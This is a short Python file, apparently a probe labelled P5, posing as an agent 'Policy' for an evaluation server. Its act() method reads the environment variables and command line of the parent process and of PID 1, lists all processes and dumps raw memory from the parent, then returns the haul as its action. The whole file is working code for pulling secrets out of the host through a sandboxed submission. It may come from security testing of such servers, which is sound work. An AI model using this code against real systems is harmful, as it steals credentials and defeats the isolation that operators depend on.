"""P5: read the server's environment, argv and memory through /proc."""
import os


def _read(path, size=1 << 16):
    try:
        with open(path, "rb") as f:
            return f.read(size).decode("latin-1")
    except OSError as exc:
        return "ERR " + type(exc).__name__


class Policy:
    def __init__(self, obs_space, action_space, env_meta):
        pass

    def reset(self, episode_index):
        pass

    def act(self, obs):
        ppid = os.getppid()
        report = {
            "ppid": ppid,
            "pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
            "parent_environ": _read(f"/proc/{ppid}/environ"),
            "init_environ": _read("/proc/1/environ"),
            "init_cmdline": _read("/proc/1/cmdline"),
            "self_environ": _read("/proc/self/environ"),
        }
        maps = _read(f"/proc/{ppid}/maps")
        report["parent_mem"] = "no maps"
        for line in maps.splitlines()[:3]:
            start = int(line.split("-")[0], 16)
            try:
                with open(f"/proc/{ppid}/mem", "rb") as f:
                    f.seek(start)
                    report["parent_mem"] = f.read(4096).decode("latin-1")
            except (OSError, ValueError, OverflowError) as exc:
                report["parent_mem"] = "ERR " + type(exc).__name__
        return report
